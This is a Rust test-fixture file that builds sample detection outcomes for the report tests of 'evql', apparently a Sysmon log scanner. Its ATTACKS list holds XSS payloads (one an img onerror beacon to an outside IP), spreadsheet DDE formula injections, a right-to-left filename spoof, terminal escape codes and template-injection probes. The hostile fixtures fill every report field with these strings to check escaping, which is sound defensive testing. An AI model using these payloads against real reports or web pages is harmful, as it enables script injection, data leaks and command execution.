//! Outcomes made by hand for the report tests: a plain one, a hostile one, an empty one and a large one. It tests nothing itself.
#![allow(dead_code, reason = "each test file uses its own part")]

use std::path::PathBuf;
use std::sync::Arc;

use evql::finding::*;
use evql::time::Timestamp;
use serde_json::{Map, Value, json};

/// 2024-03-01T10:00:00Z in milliseconds since 1970.
pub const BASE: i64 = 1_709_287_200_000;

/// Strings a log can hold and that must stay text wherever they are shown.
pub const ATTACKS: &[&str] = &[
    "<script>document.title='owned'</script>",
    "</script></style></textarea></svg><script>document.title='owned'</script>",
    "\" onmouseover=\"document.title='owned'\" x=\"",
    "' autofocus onfocus='document.title=1",
    "javascript:document.title='owned'",
    "[x](javascript:document.title='owned')",
    "<img src=http://203.0.113.99/leak onerror=document.title='owned'>",
    "<meta http-equiv=refresh content=\"0;url=http://203.0.113.99/\">",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "invoice\u{202e}fdp.exe",
    "nul\0byte \u{1b}[2J\u{1b}]0;title\u{7}",
    "two\r\nlines\tand a tab, \"quoted\"",
    "{{ 7*7 }} {% raw %} ${7*7}",
    "\u{fffd}\u{feff}\u{200b}lone surrogate's replacement",
];

/// The timestamp `millis` after [`BASE`].
pub fn at(millis: i64) -> Timestamp {
    Timestamp::from_unix_millis(BASE + millis)
}

pub fn rule(severity: Severity) -> Arc<RuleInfo> {
    Arc::new(RuleInfo {
        id: "b0a7c0de-0000-4000-8000-000000000001".to_owned(),
        name: "Unusual network activity from a Windows system binary".to_owned(),
        description:
            "A program that ships with Windows reached the network within five minutes of its start."
                .to_owned(),
        version: Some(3),
        severity,
        risk_score: 47,
        tags: vec!["windows".to_owned()],
        threats: vec![threat("T1218", "System Binary Proxy Execution")],
        query: "any where true".to_owned(),
        category_field: None,
        sha256: "ab".repeat(32),
        origin: "built-in".to_owned(),
    })
}

fn threat(id: &str, name: &str) -> Threat {
    Threat {
        tactic_id: "TA0005".to_owned(),
        tactic_name: "Defense Evasion".to_owned(),
        techniques: vec![Technique { id: id.to_owned(), name: name.to_owned() }],
    }
}

fn object(value: Value) -> Map<String, Value> {
    value.as_object().cloned().unwrap_or_default()
}

fn event(event_id: u32, record_id: u64, millis: i64, host: &str, mut document: Value) -> EvidenceEvent {
    document["event"]["code"] = json!(event_id.to_string());
    document["event"]["provider"] = json!("Microsoft-Windows-Sysmon");
    document["host"] = json!({"name": host, "os": {"type": "windows"}});
    EvidenceEvent {
        timestamp: at(millis),
        created: at(millis + 2),
        event_id,
        record_id: Some(record_id),
        channel: "Microsoft-Windows-Sysmon/Operational".to_owned(),
        computer: host.to_owned(),
        document: object(document),
        evidence: Evidence {
            source: format!("case/{host}/Microsoft-Windows-Sysmon%4Operational.evtx"),
            sha256: Some("cd".repeat(32)),
            copies: 1,
            ..Evidence::default()
        },
    }
}

/// A process start and a connection `delta` ms later.
pub fn finding(number: u64, host: &str, process: &str, delta: i64, severity: Severity) -> Finding {
    let guid = format!("{{365abb72-6759-5cd8-0000-{number:012x}}}");
    let image = format!("C:\\Windows\\System32\\{process}");
    let start = json!({
        "event": {"category": ["process"], "type": ["start"], "action": "Process creation"},
        "process": {
            "entity_id": guid, "pid": 4242 + number, "name": process, "executable": image,
            "command_line": format!("{image} http://update.example/a{number}.hta --quiet"), "working_directory": "C:\\Users\\anna\\",
            "hash": {"sha256": "0f".repeat(32)}, "pe": {"original_file_name": process.to_uppercase(), "company": "Microsoft Corporation"},
            "parent": {
                "entity_id": "{365abb72-0000-5cd8-0000-000000000001}", "pid": 1372, "name": "explorer.exe",
                "executable": "C:\\Windows\\explorer.exe", "command_line": "C:\\Windows\\explorer.exe"
            }
        },
        "user": {"domain": "CORP", "name": "anna"},
        "winlog": {"event_data": {"IntegrityLevel": "Medium", "LogonId": "0x3e7"}}
    });
    let connection = json!({
        "event": {"category": ["network"], "type": ["start", "connection", "protocol"], "action": "Network connection"},
        "process": {"entity_id": guid, "pid": 4242 + number, "name": process, "executable": image},
        "user": {"domain": "CORP", "name": "anna"},
        "network": {"transport": "tcp", "direction": "egress", "type": "ipv4", "protocol": "https"},
        "source": {"ip": "10.0.2.15", "port": 49_800 + number % 1000},
        "destination": {"ip": format!("203.0.113.{}", number % 250 + 1), "port": 443}
    });
    let millis = (number as i64) * 61_000;
    Finding {
        id: format!("f-{number:016x}"),
        rule: rule(severity),
        severity,
        risk_score: 47,
        why: Vec::new(),
        prevalence: Prevalence::default(),
        host: host.to_owned(),
        clock: Clock::Created,
        delta_ticks: Some(delta * 10_000),
        threats: vec![threat("T1218.005", "Mshta")],
        notes: Vec::new(),
        events: vec![
            Some(event(1, 16_000 + number * 3, millis, host, start)),
            Some(event(3, 16_001 + number * 3, millis + delta, host, connection)),
        ],
        story: Err(Untold::NoProcess),
        excluded_name: None,
    }
}

fn source(name: &str, status: Status, problems: u64) -> SourceReport {
    let usable = matches!(status, Status::Read | Status::Partial);
    SourceReport {
        kind: Some(SourceKind::Evtx),
        source: name.to_owned(),
        size: 1_118_208,
        modified: Some(at(90_000_000)),
        sha256: Some("cd".repeat(32)),
        status,
        chunks: 17,
        records: if usable { 2_310 } else { 0 },
        sysmon_records: if usable { 2_298 } else { 0 },
        recovered: 0,
        filtered: Filtered::default(),
        vouched: Vouched::Not,
        changed: false,
        first: usable.then(|| at(-86_400_000)),
        last: usable.then(|| at(7_200_000)),
        problems,
        overlap: Overlap::default(),
    }
}

/// A host whose logs span a day and two hours: its records of each event lie an hour apart from the beginning, the rest of them at the end.
fn host(name: &str, events: &[(u32, u64)]) -> HostCoverage {
    let mut host = HostCoverage {
        host: name.to_owned(),
        first: Some(at(-86_400_000)),
        last: Some(at(7_200_000)),
        ..HostCoverage::default()
    };
    for (event_id, count) in events {
        let event = host.events.entry(*event_id).or_default();
        (0..*count).for_each(|hour| event.add(Some(at(-86_400_000 + 3_600_000 * hour.min(26) as i64))));
    }
    host.judge(NEEDS.iter().map(|(event_id, _)| *event_id));
    host
}

/// What the built-in rule needs.
const NEEDS: [(u32, &str); 3] =
    [(1, "Process creation"), (3, "Network connection"), (22, "DNSEvent (DNS query)")];

fn reach() -> Reach {
    let rules = vec![rule(Severity::Medium).id.clone()];
    let need =
        |(event_id, name): (u32, &'static str)| Need { event_id, name: name.into(), rules: rules.clone() };
    Reach { needs: NEEDS.map(need).to_vec(), ..Reach::default() }
}

fn outcome(
    findings: Vec<Finding>,
    hosts: Vec<HostCoverage>,
    sources: Vec<SourceReport>,
    damages: Vec<Damage>,
) -> Outcome {
    let mut findings = findings;
    evql::scan::weigh_prevalence(&mut findings);
    Outcome {
        groups: evql::scan::groups(&findings),
        findings,
        near: NearMisses::default(),
        suppressed: Vec::new(),
        allow_lists: Vec::new(),
        rules: vec![rule(Severity::Medium)],
        sources,
        hosts,
        reach: reach(),
        damages,
        clock: Clock::Created,
        mapping: Vec::new(),
        interrupted: false,
        selected: Selected::default(),
    }
}

pub fn run() -> Run {
    Run {
        version: "0.1.0".to_owned(),
        arguments: ["evql", "scan", "case"].map(str::to_owned).to_vec(),
        started: at(100_000_000),
        ended: at(100_001_250),
        threads: 8,
        exit_code: 2,
        executable_sha256: Some("ef".repeat(32)),
        platform: "linux-x86_64".to_owned(),
        working_directory: "/cases/7".to_owned(),
        case: Case::default(),
        rebuilt: Vec::new(),
        merged: None,
    }
}

/// A day in a small company: findings of three severities, one host without network events, one damaged log.
pub fn plain() -> Outcome {
    let mut dns = finding(4, "WS03", "regsvr32.exe", 480, Severity::High);
    if let Some(Some(query)) = dns.events.get_mut(1) {
        query.event_id = 22;
        query.document.remove("destination");
        query.document.remove("source");
        query.document.remove("network");
        query.document.insert(
            "dns".to_owned(),
            json!({"question": {"name": "cdn.evil-updates.example"}, "resolved_ip": ["198.51.100.23"]}),
        );
    }
    let mut inverted = finding(2, "WS02", "msbuild.exe", 297_100, Severity::Medium);
    inverted.notes.push("By UtcTime the connection comes before the start: Elastic, which orders by UtcTime, would have missed this.".to_owned());
    if let Some(Some(start)) = inverted.events.get_mut(0) {
        start.evidence.copies = 2;
        start.evidence.other_sources.push("case/WS02/Archive-Sysmon-2024-03-01.evtx".to_owned());
    }
    let mut missing = finding(7, "WS01", "msxsl.exe", 12_000, Severity::Low);
    missing.events.insert(1, None);
    let findings = vec![
        finding(1, "WS01", "mshta.exe", 1_406, Severity::High),
        inverted,
        finding(3, "WS01", "msiexec.exe", 40_000, Severity::Medium),
        dns,
        finding(5, "WS03", "mshta.exe", 2_000, Severity::Critical),
        missing,
    ];
    outcome(
        findings,
        vec![
            host("DC01", &[(1, 310), (5, 300), (22, 44)]),
            host("WS01", &[(1, 812), (3, 120), (5, 799), (7, 20_310), (22, 95)]),
            host("WS02", &[(1, 402), (3, 88)]),
            host("WS03", &[(1, 507), (3, 61), (5, 499), (22, 12)]),
        ],
        vec![
            source("case/DC01/Sysmon.evtx", Status::Read, 0),
            source("case/WS01/Microsoft-Windows-Sysmon%4Operational.evtx", Status::Partial, 2),
            source("case/WS02/Archive-Sysmon-2024-03-01.evtx", Status::Read, 0),
            source("case/WS03/empty.evtx", Status::Unreadable, 1),
            source("case/notes.evtx", Status::Skipped, 1),
        ],
        vec![
            damage(
                "case/WS01/Microsoft-Windows-Sysmon%4Operational.evtx",
                Some(3),
                Some(1201),
                DamageKind::Record,
                "the record's template ends early",
                true,
            ),
            damage(
                "case/WS01/Microsoft-Windows-Sysmon%4Operational.evtx",
                Some(4),
                None,
                DamageKind::Checksum,
                "the chunk's checksum is wrong",
                false,
            ),
            damage(
                "case/WS03/empty.evtx",
                None,
                None,
                DamageKind::Unreadable,
                "the file holds 0 bytes",
                true,
            ),
            damage(
                "case/notes.evtx",
                None,
                None,
                DamageKind::NotEvidence,
                "a text file, not an event log",
                false,
            ),
        ],
    )
}

fn damage(
    source: &str,
    chunk: Option<u64>,
    record: Option<u64>,
    kind: DamageKind,
    reason: &str,
    lost: bool,
) -> Damage {
    Damage { source: source.to_owned(), chunk, record, kind, reason: reason.to_owned(), lost }
}

/// Nothing found on two hosts.
pub fn quiet() -> Outcome {
    let mut outcome = plain();
    outcome.findings.clear();
    outcome.damages.clear();
    outcome.sources.truncate(1);
    outcome
}

/// `count` findings over `hosts` hosts.
pub fn large(count: u64, hosts: u64) -> Outcome {
    let severities = [Severity::Low, Severity::Medium, Severity::Medium, Severity::High, Severity::Critical];
    let processes = ["mshta.exe", "regsvr32.exe", "msbuild.exe", "cmstp.exe"];
    let pick = |number: u64, from: usize| (number as usize * 7) % from;
    let findings = (0..count)
        .map(|number| {
            let host = format!("HOST{:03}", number % hosts);
            finding(
                number,
                &host,
                processes[pick(number, 4)],
                900 + number as i64 % 9_000,
                severities[pick(number, 5)],
            )
        })
        .collect();
    let coverage =
        (0..hosts).map(|number| host(&format!("HOST{number:03}"), &[(1, 900), (3, 80), (22, 7)])).collect();
    let sources =
        (0..hosts).map(|number| source(&format!("case/HOST{number:03}.evtx"), Status::Read, 0)).collect();
    outcome(findings, coverage, sources, Vec::new())
}

/// Every attack in every field, and a command line of 1 MB.
pub fn hostile() -> Outcome {
    let mut outcome = plain();
    outcome.findings =
        ATTACKS.iter().enumerate().map(|(number, attack)| hostile_finding(number as u64, attack)).collect();
    let mut long = finding(99, "WS01", "mshta.exe", 10, Severity::Low);
    if let Some(Some(start)) = long.events.get_mut(0) {
        start.document["process"]["command_line"] = json!(format!("<b>{}", "é<".repeat(350_000)));
    }
    outcome.findings.push(long);
    outcome.near = hostile_near();
    let all = ATTACKS.join(" ");
    outcome.rules = vec![hostile_rule(&all)];
    set_aside(&mut outcome, &all);
    outcome.sources.push(SourceReport {
        kind: Some(SourceKind::Evtx),
        source: all.clone(),
        sha256: Some(all.clone()),
        ..source("x", Status::Partial, 1)
    });
    outcome.hosts.push(host(&all, &[(1, 1)]));
    outcome.damages.push(damage(&all, Some(1), Some(1), DamageKind::Chunk, &all, true));
    outcome
}

/// An allow-list that says `text` everywhere, and a finding that it set aside.
fn set_aside(outcome: &mut Outcome, text: &str) {
    let own = || text.to_owned();
    let entry = Arc::new(AllowEntry {
        id: own(),
        reason: own(),
        author: own(),
        expires: own(),
        rule: Some(own()),
        expired: true,
    });
    outcome.suppressed.push(Suppressed { finding: hostile_finding(99, text), entry: Arc::clone(&entry) });
    outcome.allow_lists.push(AllowFile { path: own(), sha256: own(), entries: vec![entry] });
    outcome.groups = evql::scan::groups(&outcome.findings);
}

/// A run whose command line is hostile too: a folder's name can carry markup.
pub fn hostile_run() -> Run {
    Run {
        version: ATTACKS.concat(),
        arguments: ATTACKS.iter().map(|attack| (*attack).to_owned()).collect(),
        working_directory: ATTACKS.concat(),
        case: Case {
            id: ATTACKS.concat(),
            examiner: ATTACKS.concat(),
            organization: ATTACKS.concat(),
            evidence_ids: ATTACKS.iter().map(|attack| (*attack).to_owned()).collect(),
            tlp: Some(Tlp::AmberStrict),
        },
        ..run()
    }
}

fn hostile_rule(text: &str) -> Arc<RuleInfo> {
    let own = || text.to_owned();
    let threats = vec![Threat {
        tactic_id: own(),
        tactic_name: own(),
        techniques: vec![Technique { id: own(), name: own() }],
    }];
    let base = rule(Severity::High);
    let info = RuleInfo {
        id: own(),
        name: own(),
        description: own(),
        tags: vec![own()],
        sha256: own(),
        origin: own(),
        threats,
        ..(*base).clone()
    };
    Arc::new(info)
}

/// A near miss per attack.
fn hostile_near() -> NearMisses {
    let miss = |(number, attack): (usize, &&str)| {
        let mut nearly = hostile_finding(number as u64, attack);
        nearly.id = format!("n-{number:016x}");
        NearMiss { kind: NearKind::Excluded, detail: (*attack).to_owned(), nearly }
    };
    let count = NearCount {
        rule: hostile_rule(&ATTACKS.concat()),
        kind: NearKind::Excluded,
        count: 1_000,
        listed: ATTACKS.len() as u64,
    };
    let listed = ATTACKS.iter().enumerate().map(miss).collect();
    NearMisses { looked_for: true, counts: vec![count], listed, more: true }
}

fn hostile_finding(number: u64, attack: &str) -> Finding {
    let mut finding = finding(number, attack, "mshta.exe", 1_000, Severity::High);
    finding.id = format!("{}-{number}", finding.id);
    finding.rule = hostile_rule(attack);
    finding.threats = finding.rule.threats.clone();
    finding.notes = vec![attack.to_owned()];
    finding.why = vec![Reason { code: "renamed".into(), words: attack.to_owned(), weight: 20 }];
    finding.excluded_name = Some(ExcludedName {
        name: attack.to_owned(),
        clause: attack.to_owned(),
        address: attack.to_owned(),
        record_id: Some(7),
    });
    for event in finding.events.iter_mut().flatten() {
        poison(&mut event.document, attack);
        event.document.insert(attack.to_owned(), json!({attack: [attack, attack]}));
        event.channel = attack.to_owned();
        event.computer = attack.to_owned();
        event.evidence = Evidence {
            source: attack.to_owned(),
            sha256: Some(attack.to_owned()),
            copies: 2,
            other_sources: vec![attack.to_owned()],
            recovered: true,
            fields_shifted: false,
            forwarded: false,
        };
    }
    let story = hostile_story(attack, finding.present().next().expect("an event"));
    finding.story = Ok(Arc::new(story));
    finding
}

fn hostile_story(attack: &str, event: &EvidenceEvent) -> Story {
    use evql::finding::story::*;
    let own = || attack.to_owned();
    let count = Count { count: 2, first: Some(at(0)), last: Some(at(5)) };
    // Records of their own, since the timeline leaves out of a story what is evidence already.
    let other = |number: u64| {
        let record_id = event.record_id.map(|id| id + 100_000 * number);
        EvidenceEvent { record_id, ..event.clone() }
    };
    let process = |depth| Process { depth, ..Process::started_by(Arc::new(other(u64::from(depth)))) };
    let unknown = Process { known: false, name: own(), command_line: own(), user: own(), ..process(1) };
    let destination = Destination {
        ip: own(),
        port: own(),
        protocol: own(),
        inbound: true,
        host_name: own(),
        names: vec![own()],
        named_by_host: true,
        seen: count,
    };
    let query = Query { name: own(), seen: count, statuses: vec![own()], answers: vec![own()] };
    let touched = Touched { event: "FileCreate".into(), target: own(), seen: count };
    let targets = Listed { shown: vec![touched], total: 9 };
    Story {
        host: own(),
        process: process(0),
        ancestors: vec![unknown],
        children: Listed { shown: vec![process(2)], total: 3 },
        kin_complete: false,
        connections: Connections {
            all: count,
            destinations: Listed { shown: vec![destination], total: 7 },
            intervals: Intervals::of(vec![at(0), at(5)]),
        },
        queries: Listed { shown: vec![query], total: 8 },
        query_count: 9,
        activities: vec![Activity { kind: "files".into(), all: count, targets }],
        context: Listed { shown: vec![other(3)], total: 4 },
    }
}

fn poison(object: &mut Map<String, Value>, attack: &str) {
    for value in object.values_mut() {
        match value {
            Value::Object(inner) => poison(inner, attack),
            Value::String(text) => *text = attack.to_owned(),
            Value::Array(items) => *items = vec![json!(attack)],
            _ => {}
        }
    }
}

/// `target/tmp/<name>`, empty: where a browser or pandas can look at what a test wrote.
pub fn fresh_folder(name: &str) -> PathBuf {
    let folder = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(name);
    let _ = std::fs::remove_dir_all(&folder);
    folder
}
